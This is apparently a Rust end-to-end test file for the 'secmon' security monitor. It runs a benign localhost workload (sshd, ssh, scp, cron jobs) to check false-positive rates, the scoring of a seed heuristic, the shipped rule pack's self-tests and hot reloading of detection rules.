Subsystem sftp /usr/local/sbin/sftp-server
EOF
unshare --mount --propagation private sh -c 'mount -t tmpfs tmpfs /run && mkdir -m 755 /run/sshd && mount -t tmpfs tmpfs /var/log && mount --bind "$WORK/ssh/passwd" /etc/passwd && mount --bind "$SSHD_DIR" /usr/local/sbin && exec /usr/local/sbin/sshd -D -f "$WORK/ssh/sshd_config" -E "$WORK/ssh/sshd.log"' &
sshd_pid=$!
tries=0
until [ -s ssh/sshd.pid ]; do
    tries=$((tries + 1))
    [ "$tries" -le 200 ] || { echo "sshd did not start:" >&2; cat ssh/sshd.log >&2; exit 1; }
    sleep 0.05
done
set -- -i ssh/id -o IdentitiesOnly=yes -o BatchMode=yes -o StrictHostKeyChecking=accept-new -o "UserKnownHostsFile=$WORK/ssh/known_hosts"
ssh "$@" -p "$port" root@127.0.0.1 'echo "ssh ok"; uname -r > /dev/null; ls ~ > /dev/null'
ssh -tt "$@" -p "$port" root@127.0.0.1 > ssh/session.txt 2>&1 <<'EOF'
unset HISTFILE
cd /etc && ls > /dev/null && cd
echo "shell $((6 * 7))"
exit
EOF
grep -q 'shell 42' ssh/session.txt && echo "shell ok"
scp -q "$@" -P "$port" hello.c "root@127.0.0.1:$WORK/scp-copy.c"
cmp hello.c scp-copy.c && echo "scp ok"
kill "$sshd_pid"
wait "$sshd_pid" || true
# Cron's daily jobs, Debian's own (/etc/cron.daily: dpkg's database backup, man-db's cache
# update), run as cron runs them, in a mount namespace where the directories they write are
# copies in $WORK (an empty /var/backups, a copy of /var/cache/man).
unshare --mount --propagation private sh -c 'mkdir -p "$WORK/cron/backups" "$WORK/cron/man" && { [ ! -d /var/cache/man ] || cp -a /var/cache/man/. "$WORK/cron/man/"; } && mount --bind "$WORK/cron/backups" /var/backups && { [ ! -d /var/cache/man ] || mount --bind "$WORK/cron/man" /var/cache/man; } && exec run-parts --report --regex "^(dpkg|man-db)$" /etc/cron.daily'
[ -s cron/backups/dpkg.status.0 ] && echo "cron ok"
"#;

/// The pid of `root` and of every process it forked, transitively (from `process_fork` events,
/// and exec events naming a parent in the tree in case a fork event was missed).
fn process_tree(events: &[Value], root: u32) -> BTreeSet<u64> {
    let mut tree = BTreeSet::from([u64::from(root)]);
    loop {
        let before = tree.len();
        for e in events {
            let forked = e["event_type"] == "process_fork" || e["event_type"] == "process_exec";
            if let (true, Some(pid), Some(ppid)) = (forked, e["pid"].as_u64(), e["ppid"].as_u64())
                && tree.contains(&ppid)
            {
                tree.insert(pid);
            }
        }
        if tree.len() == before {
            return tree;
        }
    }
}

/// Where `cargo xtask setup` puts the OpenSSH server the workload logs in to, unpacked from
/// Debian's packages (not installed: installing it would start a system sshd on the machine).
const OPENSSH_DIR: &str = "openssh/sbin";

/// A directory of tools that `cargo xtask setup` put under `target/test-tools`, checked to hold
/// `programs`.
fn test_tools(relative: &str, programs: &[&str]) -> PathBuf {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../target/test-tools")
        .join(relative);
    for program in programs {
        assert!(
            dir.join(program).is_file(),
            "{} is missing: run `cargo xtask setup` (it unpacks the test tools)",
            dir.join(program).display()
        );
    }
    dir.canonicalize()
        .expect("canonicalise the test tools' directory")
}

/// `$VAR`, or `~/DEFAULT` of the test's own home: where rustup or cargo keep their state.
fn tool_home(var: &str, default: &str) -> PathBuf {
    std::env::var_os(var)
        .filter(|v| !v.is_empty())
        .map(PathBuf::from)
        .unwrap_or_else(|| {
            PathBuf::from(std::env::var_os("HOME").unwrap_or_else(|| "/root".into())).join(default)
        })
}

/// Runs [`BENIGN_SCRIPT`] in a fresh directory outside any temp directory and returns the pid
/// of its shell once it has exited successfully.
fn run_benign_workload() -> u32 {
    // Two tests run it; dpkg takes a lock, so one at a time.
    static ONE_AT_A_TIME: std::sync::Mutex<()> = std::sync::Mutex::new(());
    let _turn = ONE_AT_A_TIME
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    let package = format!("secmon-benign-{}", marker());
    let _remove = RemovePackage(package.clone());
    // A project directory outside /tmp, as a developer's would be (the compiler still uses /tmp
    // for its intermediate files). A program run from a temp sub-directory scores 0.35 alone
    // (benign), but the chain `dropped_file_executed` (+0.5, suspicious together) also fires
    // when *any* ancestor dropped an executable in a temp directory within the last minute, and
    // this test process is such an ancestor whenever other tests copy executables into /tmp.
    // Not under the target directory: a clone checked out under /tmp (as CI may do) would put
    // the project in a temp directory after all.
    let work = tempfile::Builder::new()
        .prefix(&format!("{}-", marker()))
        .tempdir_in("/var/lib")
        .expect("create the workload directory");
    let work_path = work.path().canonicalize().expect("canonicalise it");
    let mut cmd = Command::new("/bin/sh");
    cmd.args(["-c", BENIGN_SCRIPT])
        .env("WORK", &work_path)
        .env("HOME", &work_path)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("PKG", &package)
        .env(
            "SSHD_DIR",
            test_tools(OPENSSH_DIR, &["sshd", "sftp-server"]),
        )
        // HOME is the work directory: keep rustup's and cargo's own homes where they are.
        .env("RUSTUP_HOME", tool_home("RUSTUP_HOME", ".rustup"))
        .env("CARGO_HOME", tool_home("CARGO_HOME", ".cargo"))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    die_with_parent(&mut cmd);
    let mut child = spawn(&mut cmd);
    let sh = child.id();
    let mut child_out = child.stdout.take().expect("stdout is piped");
    let mut child_err = child.stderr.take().expect("stderr is piped");
    let out = thread::spawn(move || {
        let mut buf = Vec::new();
        let _ = child_out.read_to_end(&mut buf);
        String::from_utf8_lossy(&buf).into_owned()
    });
    let err = thread::spawn(move || {
        let mut buf = Vec::new();
        let _ = child_err.read_to_end(&mut buf);
        String::from_utf8_lossy(&buf).into_owned()
    });
    let status = wait_child(&mut child, WORKLOAD_TIMEOUT);
    let stdout = out.join().expect("the stdout reader does not panic");
    let stderr = err.join().expect("the stderr reader does not panic");
    assert!(
        status.success(),
        "the benign workload (sh pid {sh}) failed ({status}); stdout:\n{stdout}\nstderr:\n{stderr}"
    );
    for output in [
        "hello, secmon",
        "venv ok",
        "package ok",
        "version 2.0",
        "pip ok",
        "npm ok",
        "Hello, world!",
        "ssh ok",
        "shell ok",
        "scp ok",
        "cron ok",
    ] {
        assert!(
            stdout.contains(output),
            "the workload printed {output:?}: {stdout}"
        );
    }
    sh
}

/// The events of the workload's process tree (rooted at its shell `sh`) among `events`.
fn workload_events(events: &[Value], sh: u32) -> (BTreeSet<u64>, Vec<&Value>) {
    let tree = process_tree(events, sh);
    let ours = events
        .iter()
        .filter(|e| e["pid"].as_u64().is_some_and(|p| tree.contains(&p)))
        .collect();
    (tree, ours)
}

#[test]
fn benign_workload_is_not_rated() {
    let mon = monitor();
    let start = mon.events().len();
    let cp = mon.checkpoint();
    let sh = run_benign_workload();

    // Everything the workload did has arrived once its shell's exit and a later sync point have.
    mon.expect(
        &cp,
        "process_exit",
        &format!("the workload's sh (pid {sh})"),
        |e| e["pid"] == sh,
    );
    let sync = TestDir::new(&marker());
    mon.sync_point(sync.path());
    let events: Vec<Value> = mon.events().split_off(start);
    let (tree, ours) = workload_events(&events, sh);

    // The workload was observed, not just run: each of its programs shows up.
    let execs: BTreeSet<&str> = ours
        .iter()
        .filter(|e| e["event_type"] == "process_exec")
        .filter_map(|e| e["process"].as_str())
        .collect();
    for (what, found) in [
        ("cc", execs.contains("cc") || execs.contains("gcc")),
        ("cc1", execs.contains("cc1")),
        ("hello", execs.contains("hello")),
        ("git", execs.contains("git")),
        ("python", execs.iter().any(|n| n.starts_with("python"))),
        ("bash", execs.contains("bash")),
        ("ls", execs.contains("ls")),
        ("cat", execs.contains("cat")),
        ("grep", execs.contains("grep")),
        ("make", execs.contains("make")),
        ("strace", execs.contains("strace")),
        ("ssh-keygen", execs.contains("ssh-keygen")),
        ("dpkg", execs.contains("dpkg")),
        ("vim", execs.contains("vim")),
        ("tar", execs.contains("tar")),
        ("gzip", execs.contains("gzip")),
        ("npm", execs.contains("npm") || execs.contains("node")),
        ("cargo", execs.contains("cargo")),
        ("rustc", execs.contains("rustc")),
        ("ps", execs.contains("ps")),
        ("sshd", execs.contains("sshd")),
        ("ssh", execs.contains("ssh")),
        ("scp", execs.contains("scp")),
        ("sftp-server", execs.contains("sftp-server")),
        ("run-parts", execs.contains("run-parts")),
    ] {
        assert!(
            found,
            "no process_exec of {what} in the workload's process tree {tree:?}; execs seen: {execs:?}"
        );
    }

    let mut matched: BTreeMap<&str, usize> = BTreeMap::new();
    for e in &ours {
        for r in rule_names(e) {
            *matched.entry(r).or_default() += 1;
        }
    }
    eprintln!(
        "rules_e2e: benign workload: {} events from {} processes; rules matched (all below the \
         threshold unless reported): {matched:?}",
        ours.len(),
        tree.len()
    );
    let rated: Vec<String> = ours
        .iter()
        .filter(|e| severity(e) != "benign")
        .map(|e| show(e))
        .collect();
    assert!(
        rated.is_empty(),
        "the benign workload (sh pid {sh}, {} processes, {} events) has {} event(s) rated \
         suspicious or malicious:\n{}",
        tree.len(),
        ours.len(),
        rated.len(),
        rated.join("\n")
    );
}

/// The seed heuristic (`enable_heuristics = true`, off in the shipped config): on the same
/// benign workload it rates exactly as the seed's `classify_threat` — +0.3 for a path (or
/// executable) under /tmp/, +0.4 for a shell, confidence 0.8 — and the rate at which it calls
/// ordinary work suspicious is printed (docs/rules.md records it). Its own monitor: the shared
/// one runs with the heuristic off.
#[test]
fn heuristic_rates_the_benign_workload_like_the_seed() {
    crate::common::require_root();
    let dir = TestDir::new(&marker());
    let config = dir.join("heuristics.toml");
    fs::write(
        &config,
        "[threat_detection]\nenable_heuristics = true\n[storage]\nenabled = false\n",
    )
    .expect("write the config");
    let mut mon = Instance::start(&["--json", "--config", &path_str(&config)]);
    mon.wait_ready();
    let sh = run_benign_workload();
    let events = mon.stop_for_events();
    let (tree, ours) = workload_events(&events, sh);

    let shells = ["sh", "bash", "dash", "zsh", "ksh", "fish", "csh", "tcsh"];
    let mut by_heuristic = 0;
    let mut suspicious = Vec::new();
    for e in &ours {
        let a = &e["analysis"];
        let tmp = str_is(e, "exe", |p| p.contains("/tmp/"))
            || str_is(e, "file_path", |p| p.contains("/tmp/"));
        let shell = shells.contains(&str_field(e, "process"));
        let expected = if tmp { 0.3 } else { 0.0 } + if shell { 0.4 } else { 0.0 };
        let names = rule_names(e);
        let rule_matched = names.iter().any(|r| !r.starts_with("heuristic:"));
        if rule_matched {
            // A shipped rule matched too (below the threshold, as the other test asserts): its
            // score is combined with the heuristic's, the verdict is the rule's.
            assert_eq!(a["detection_method"], "rule_based", "{}", show(e));
            continue;
        }
        let risk = a["risk_score"].as_f64().unwrap_or(-1.0);
        assert!(
            (risk - expected).abs() < 1e-9,
            "the seed gives {expected} (tmp {tmp}, shell {shell}):\n{}",
            show(e)
        );
        assert_eq!(names.contains(&"heuristic:tmp_path"), tmp, "{}", show(e));
        assert_eq!(names.contains(&"heuristic:shell"), shell, "{}", show(e));
        if expected > 0.0 {
            by_heuristic += 1;
            assert_eq!(a["detection_method"], "heuristic", "{}", show(e));
            assert_eq!(a["confidence"], 0.8, "{}", show(e));
        }
        if severity(e) != "benign" {
            suspicious.push(e);
        }
    }
    let rate = suspicious.len() as f64 / ours.len().max(1) as f64;
    let mut programs: BTreeMap<&str, usize> = BTreeMap::new();
    for e in &suspicious {
        *programs.entry(str_field(e, "process")).or_default() += 1;
    }
    eprintln!(
        "rules_e2e: heuristic on the benign workload: {} events from {} processes, {by_heuristic} \
         scored by the heuristic, {} rated suspicious ({:.2} %), by program: {programs:?}",
        ours.len(),
        tree.len(),
        suspicious.len(),
        rate * 100.0
    );
    // The seed's weakness, which is why it is off by default: the shell writing its mktemp
    // scratch file (a shell touching /tmp) is called suspicious.
    assert!(
        suspicious.iter().any(|e| {
            shells.contains(&str_field(e, "process"))
                && e["event_type"] == "file_write"
                && severity(e) == "suspicious"
        }),
        "the workload's shell writes its mktemp file: the seed heuristic rates that suspicious; \
         rated events: {}",
        suspicious
            .iter()
            .map(|e| show(e))
            .collect::<Vec<_>>()
            .join("\n")
    );
}

// ---------------------------------------------------------------------------------------------
// The shipped pack's own tests

/// `secmon-tui rules check|test|list` over the shipped `rules/`: valid, every embedded test
/// passes, and every rule is tested both ways (an event it must match and one it must not).
#[test]
fn shipped_pack_checks_and_passes_its_own_tests() {
    let rules = workspace("rules");
    let cli = |sub: &str| {
        let out = run(
            Command::new(BIN).args(["rules", sub, &rules]),
            WORKLOAD_TIMEOUT,
        );
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(
            out.status.success(),
            "`rules {sub} {rules}` exits 0, got {}; stdout:\n{stdout}\nstderr:\n{stderr}",
            out.status
        );
        stdout
    };

    let check = cli("check");
    let listed = cli("list");
    let rule_count = listed.lines().count().saturating_sub(2);
    assert!(
        check.starts_with(&format!("ok: {rule_count} rules in ")),
        "`rules check` counts the rules `rules list` shows ({rule_count}):\n{check}\n{listed}"
    );
    assert!(
        rule_count >= 40,
        "the pack has {rule_count} rules:\n{listed}"
    );

    let tested = cli("test");
    let summary = tested.lines().last().unwrap_or_default();
    let passed: usize = summary
        .strip_suffix(" passed, 0 failed")
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("`rules test` ends with `N passed, 0 failed`:\n{tested}"));
    assert!(
        passed >= 2 * rule_count,
        "{passed} tests for {rule_count} rules: each needs a matching and a non-matching one"
    );
    assert!(
        !tested.contains("note:"),
        "every shipped rule is tested both ways:\n{tested}"
    );
}

// ---------------------------------------------------------------------------------------------
// Hot reload in the running monitor

/// A one-rule file: `name` matches opens of paths ending in `suffix`.
fn probe_rule(name: &str, suffix: &str) -> String {
    serde_json::json!([{
        "name": name,
        "condition": format!("file.path.endswith('{suffix}')"),
        "event_types": ["file_open"],
        "risk_score": 0.7,
    }])
    .to_string()
}

/// `--json` with its own rule directory: a change to a rule file is picked up without a
/// restart, a broken file is reported with its position and the previous rules keep working,
/// and SIGHUP reloads too. Each phase opens its own file; the rules its open event carries show
/// which set evaluated it.
#[test]
fn rules_reload_on_change_and_sighup_keeping_the_old_set_on_errors() {
    crate::common::require_root();
    let dir = TestDir::new(&marker());
    let rules_dir = dir.join("rules");
    fs::create_dir(&rules_dir).expect("create the rules directory");
    let rule_file = rules_dir.join("probe.json");
    let suffix = format!("{}-probe", marker());
    fs::write(&rule_file, probe_rule("reload_probe_v1", &suffix)).expect("write the rule");
    let mut mon = Instance::start(&[
        "--json",
        "--config",
        crate::common::SHARED_CONFIG,
        "--rules",
        &path_str(&rules_dir),
    ]);
    mon.wait_ready();
    let open_probe = |phase: &str| {
        let path = dir.join(format!("{phase}-{suffix}"));
        fs::write(&path, b"x").expect("write the probe file");
        drop(fs::File::open(&path).expect("open the probe file"));
        path_str(&path)
    };
    let mut expected = vec![(open_probe("a"), vec!["reload_probe_v1"])];

    // A saved change reloads (the directory is watched).
    fs::write(&rule_file, probe_rule("reload_probe_v2", &suffix)).expect("rewrite the rule");
    mon.wait_for_stderr("`rules reloaded: 1 rules from 1 files`", |l| {
        l == "secmon: rules reloaded: 1 rules from 1 files"
    });
    expected.push((open_probe("b"), vec!["reload_probe_v2"]));

    // A broken file: reported with file, line and column; v2 stays active.
    fs::write(
        &rule_file,
        "[{\"name\": \"broken\", \"risk_score\": 0.5,\n  \"condition\": \"file.path ==\"}]",
    )
    .expect("break the rule file");
    let failed = mon.wait_for_stderr("`rules reload failed`", |l| {
        l.starts_with("secmon: rules reload failed: ")
    });
    let position = format!("{}:2:", path_str(&rule_file));
    assert!(
        failed.contains(&position) && failed.ends_with("keeping the previous 1 rules"),
        "the error names {position}<column> and keeps the old rules: {failed}"
    );
    expected.push((open_probe("c"), vec!["reload_probe_v2"]));

    // Fixed (the watcher reloads), then SIGHUP reloads once more.
    fs::write(&rule_file, probe_rule("reload_probe_v3", &suffix)).expect("fix the rule");
    mon.wait_for_stderr("the reload after the fix", |l| {
        l == "secmon: rules reloaded: 1 rules from 1 files"
    });
    mon.signal(libc::SIGHUP);
    mon.wait_for_stderr("the reload SIGHUP asked for", |l| {
        l == "secmon: rules reloaded: 1 rules from 1 files (on SIGHUP)"
    });
    expected.push((open_probe("d"), vec!["reload_probe_v3"]));

    let events = mon.stop_for_events();
    for (path, rules) in expected {
        let opens: Vec<&Value> = events
            .iter()
            .filter(|e| e["event_type"] == "file_open" && e["file_path"] == path.as_str())
            .collect();
        assert!(!opens.is_empty(), "no file_open of {path} in the output");
        for e in opens {
            assert_eq!(rule_names(e), rules, "{path}: {}", show(e));
            assert_eq!(severity(e), "suspicious", "{}", show(e));
        }
    }
}
